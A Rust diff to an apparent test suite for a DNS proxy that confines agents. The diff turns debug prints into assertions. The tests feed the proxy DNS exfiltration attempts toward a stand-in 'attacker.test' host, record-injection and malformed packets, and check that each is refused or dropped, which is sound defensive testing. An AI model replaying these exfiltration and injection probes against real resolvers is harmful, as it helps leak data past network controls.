@@ -552,6 +552,14 @@ fn q1(labels: &[&[u8]], qtype: u16) -> Vec<u8> {
 
 const A: u16 = 1;
 
+/// The `rcode` of a raw query's outcome (`id=..,rcode=X,...`), or the outcome itself when it
+/// has none (`EAGAIN`: nothing came back; `EPERM`: the kernel refused the send).
+fn rcode(outcome: &str) -> &str {
+    outcome
+        .split_once("rcode=")
+        .map_or(outcome, |(_, rest)| rest.split([',', ' ', ']']).next().unwrap_or(rest))
+}
+
 #[test]
 fn letter_case_carries_nothing_past_the_wildcard_budget() {
     let w = World::new("wildcard_names = 5");
@@ -562,7 +570,6 @@ fn letter_case_carries_nothing_past_the_wildcard_budget() {
         .into_iter()
         .filter(|q| q.to_ascii_lowercase().starts_with("leakdata.attacker.test"))
         .collect();
-    eprintln!("cased={cased:?} distinct spellings upstream={}", seen.len());
     // Control: the budget does bound distinct names (1 used by leakdata, 4 left).
     let bounded = w.inside(&gamma, &[&format!("dns-exfil:{UPSTREAM}/attacker.test/10")]);
     assert_eq!(bounded, ["NoError=4 Refused=6"]);
@@ -586,7 +593,7 @@ fn a_label_with_a_dot_is_refused_not_judged_as_another_name() {
             &format!("dns-raw-udp:{UPSTREAM}/{}", hex(&q1(&[b"evil.mirror", b"test"], A))),
         ],
     );
-    eprintln!("odd={odd:?} upstream={:?}", queries(&w.log));
+    assert_eq!((rcode(&odd[0]), rcode(&odd[1])), ("Refused", "Refused"), "{odd:?}");
     let leaked: Vec<String> = queries(&w.log).into_iter().filter(|q| q.contains("\\.")).collect();
     assert!(leaked.is_empty(), "names outside every rule were asked upstream: {leaked:?} ({odd:?})");
 }
@@ -616,33 +623,37 @@ fn malformed_and_odd_queries_never_go_upstream_and_the_proxy_keeps_answering() {
     let long_labels: Vec<Vec<u8>> = (0..5).map(|_| vec![b'a'; 63]).collect();
     let long: Vec<&[u8]> =
         long_labels.iter().map(Vec::as_slice).chain([b"llm".as_slice(), b"test"]).collect();
-    let cases: Vec<(&str, Vec<u8>)> = vec![
-        ("qd0", wire(1, 0x0100, &[], [0, 0, 0], &[])),
-        ("qd2", wire(2, 0x0100, &[(allowed, A, 1), (other, A, 1)], [0, 0, 0], &[])),
-        ("qd2-rev", wire(3, 0x0100, &[(other, A, 1), (allowed, A, 1)], [0, 0, 0], &[])),
-        ("response", wire(4, 0x8180, &[(other, A, 1)], [0, 0, 0], &[])),
-        ("ptr-loop", loop_name),
-        ("truncated", q1(other, A)[..20].to_vec()),
-        ("long", q1(&long, A)),
-        ("update", wire(5, 0x2800, &[(other, A, 1)], [0, 0, 0], &[])),
-        ("chaos", wire(6, 0x0100, &[(&[b"version", b"bind"], 16, 3)], [0, 0, 0], &[])),
-        ("class-any", wire(7, 0x0100, &[(other, A, 255)], [0, 0, 0], &[])),
-        ("answer-inj", wire(8, 0x0100, &[(allowed, A, 1)], [1, 0, 0], &rr_a)),
-        ("add-inj", wire(9, 0x0100, &[(allowed, A, 1)], [0, 0, 1], &rr_a)),
-        ("edns-opts", wire(10, 0x0100, &[(allowed, A, 1)], [0, 0, 1], &opt)),
-        ("edns-other", wire(11, 0x0100, &[(other, A, 1)], [0, 0, 1], &opt)),
-        ("trailing-junk", [q1(other, A), vec![0xde, 0xad]].concat()),
-        ("type-any", q1(allowed, 255)),
-        ("type-0", q1(allowed, 0)),
-        ("type-cname", q1(allowed, 5)),
-        ("root", wire(12, 0x0100, &[(&[], A, 1)], [0, 0, 0], &[])),
-        ("nul-label", q1(&[b"api\0", b"llm", b"test"], A)),
-        ("star", q1(&[b"*", b"llm", b"test"], A)),
+    // Each with what the proxy answers: FormErr, NotImp, Refused, nothing (EAGAIN: a response
+    // is dropped), or an answer for the allowed name (records in a query's other sections are
+    // ignored or refused, never learned).
+    let cases: Vec<(&str, Vec<u8>, &str)> = vec![
+        ("qd0", wire(1, 0x0100, &[], [0, 0, 0], &[]), "FormErr"),
+        ("qd2", wire(2, 0x0100, &[(allowed, A, 1), (other, A, 1)], [0, 0, 0], &[]), "FormErr"),
+        ("qd2-rev", wire(3, 0x0100, &[(other, A, 1), (allowed, A, 1)], [0, 0, 0], &[]), "FormErr"),
+        ("response", wire(4, 0x8180, &[(other, A, 1)], [0, 0, 0], &[]), "EAGAIN"),
+        ("ptr-loop", loop_name, "FormErr"),
+        ("truncated", q1(other, A)[..20].to_vec(), "FormErr"),
+        ("long", q1(&long, A), "FormErr"),
+        ("update", wire(5, 0x2800, &[(other, A, 1)], [0, 0, 0], &[]), "NotImp"),
+        ("chaos", wire(6, 0x0100, &[(&[b"version", b"bind"], 16, 3)], [0, 0, 0], &[]), "Refused"),
+        ("class-any", wire(7, 0x0100, &[(other, A, 255)], [0, 0, 0], &[]), "Refused"),
+        ("answer-inj", wire(8, 0x0100, &[(allowed, A, 1)], [1, 0, 0], &rr_a), "FormErr"),
+        ("add-inj", wire(9, 0x0100, &[(allowed, A, 1)], [0, 0, 1], &rr_a), "NoError"),
+        ("edns-opts", wire(10, 0x0100, &[(allowed, A, 1)], [0, 0, 1], &opt), "NoError"),
+        ("edns-other", wire(11, 0x0100, &[(other, A, 1)], [0, 0, 1], &opt), "Refused"),
+        ("trailing-junk", [q1(other, A), vec![0xde, 0xad]].concat(), "Refused"),
+        ("type-any", q1(allowed, 255), "Refused"),
+        ("type-0", q1(allowed, 0), "Refused"),
+        ("type-cname", q1(allowed, 5), "Refused"),
+        ("root", wire(12, 0x0100, &[(&[], A, 1)], [0, 0, 0], &[]), "Refused"),
+        ("nul-label", q1(&[b"api\0", b"llm", b"test"], A), "Refused"),
+        ("star", q1(&[b"*", b"llm", b"test"], A), "Refused"),
     ];
-    let ops: Vec<String> = cases.iter().map(|(_, b)| format!("dns-raw-udp:{UPSTREAM}/{}", hex(b))).collect();
+    let ops: Vec<String> =
+        cases.iter().map(|(_, b, _)| format!("dns-raw-udp:{UPSTREAM}/{}", hex(b))).collect();
     let got = w.inside(&alpha, &ops.iter().map(String::as_str).collect::<Vec<_>>());
-    for ((name, _), out) in cases.iter().zip(&got) {
-        eprintln!("udp {name}: {out}");
+    for ((name, _, expected), out) in cases.iter().zip(&got) {
+        assert_eq!(rcode(out), *expected, "udp {name}: {out}");
     }
     // TCP: two queries in one write (pipelined), a zero-length frame, a partial frame, a
     // 65535-byte frame of junk.
@@ -657,14 +668,23 @@ fn malformed_and_odd_queries_never_go_upstream_and_the_proxy_keeps_answering() {
     let ops: Vec<String> =
         tcp_cases.iter().map(|(_, b)| format!("dns-raw-tcp:{UPSTREAM}/{}", hex(b))).collect();
     let tcp = w.inside(&alpha, &ops.iter().map(String::as_str).collect::<Vec<_>>());
-    for ((name, _), out) in tcp_cases.iter().zip(&tcp) {
-        eprintln!("tcp {name}: {out}");
-    }
-    eprintln!("upstream saw {:?}", queries(&w.log));
-    // Nothing but api.llm.test (A, AAAA) was ever asked upstream.
+    // Three answers to the pipelined three (allowed, refused, allowed AAAA); nothing to the
+    // zero-length, partial and split frames; FormErr to the junk.
+    let replies = |out: &str| out.split_whitespace().next().unwrap_or_default().to_owned();
+    assert_eq!(
+        tcp.iter().map(|o| replies(o)).collect::<Vec<_>>(),
+        ["replies=3", "replies=0", "replies=0", "replies=1", "replies=0"],
+        "{tcp:?}"
+    );
+    let pipelined: Vec<&str> = tcp[0].split("; ").map(rcode).collect();
+    assert_eq!(pipelined, ["NoError", "Refused", "NoError"], "{}", tcp[0]);
+    assert_eq!(rcode(&tcp[3]), "FormErr", "{}", tcp[3]);
+    // Nothing but api.llm.test (A, AAAA) was ever asked upstream, and it was (the positive
+    // control: what a case lets through does reach the upstream's log).
     let asked: Vec<String> =
         queries(&w.log).into_iter().filter(|q| !q.starts_with("api.llm.test ")).collect();
     assert!(asked.is_empty(), "{asked:?}");
+    assert!(w.upstream_saw("api.llm.test") >= 4, "{:?}", queries(&w.log));
     // The injected 10.77.0.2 was not learned; the proxy still answers (UDP and TCP).
     assert_eq!(w.inside(&alpha, &["tcp:10.77.0.2:443"]), ["EPERM"]);
     let after = w.inside(&alpha, &[&ask("api.llm.test", "A"), &format!("dns-tcp:{UPSTREAM}/api.llm.test/A")]);
@@ -734,12 +754,36 @@ fn fast_open_sendmmsg_and_mapped_addresses_all_go_to_the_own_proxy() {
             &format!("dns-raw-tcp:[::]:53/{other}"),
         ],
     );
-    for g in &got {
-        eprintln!("{g}");
-    }
-    eprintln!("upstream {:?}", queries(&w.log));
+    // Fast open and sendmmsg to the resolver (v4 or mapped) reach the own proxy: the allowed
+    // name is answered, the other refused; any address of the proxy's network, the loopback's
+    // proxy port and an IPv6 resolver without connecting are refused by the kernel.
+    let got: Vec<&str> = got.iter().map(|g| rcode(g)).collect();
+    assert_eq!(
+        got,
+        [
+            "NoError",
+            "Refused",
+            "Refused",
+            "send-EPERM",
+            "send-EPERM",
+            "send-EPERM",
+            "sent=8 replies=8",
+            "EPERM",
+            "EPERM",
+            "sent=8 replies=8",
+            "EPERM",
+            "Refused",
+            "EPERM",
+            "Refused",
+            "EPERM",
+            "EPERM",
+            "Refused",
+        ]
+    );
     assert_eq!(w.upstream_saw("other.test"), 0);
-    // Control: from outside the agents, fast open reaches the resolver itself.
+    // Control: from outside the agents, fast open reaches the resolver itself, and the
+    // upstream's log shows it.
     let control = w.outside(&[&format!("tfo:{UPSTREAM}/{other}")]);
-    eprintln!("control {control:?}");
+    assert_eq!(rcode(&control[0]), "NoError", "{control:?}");
+    assert_eq!(w.upstream_saw("other.test"), 1);
 }
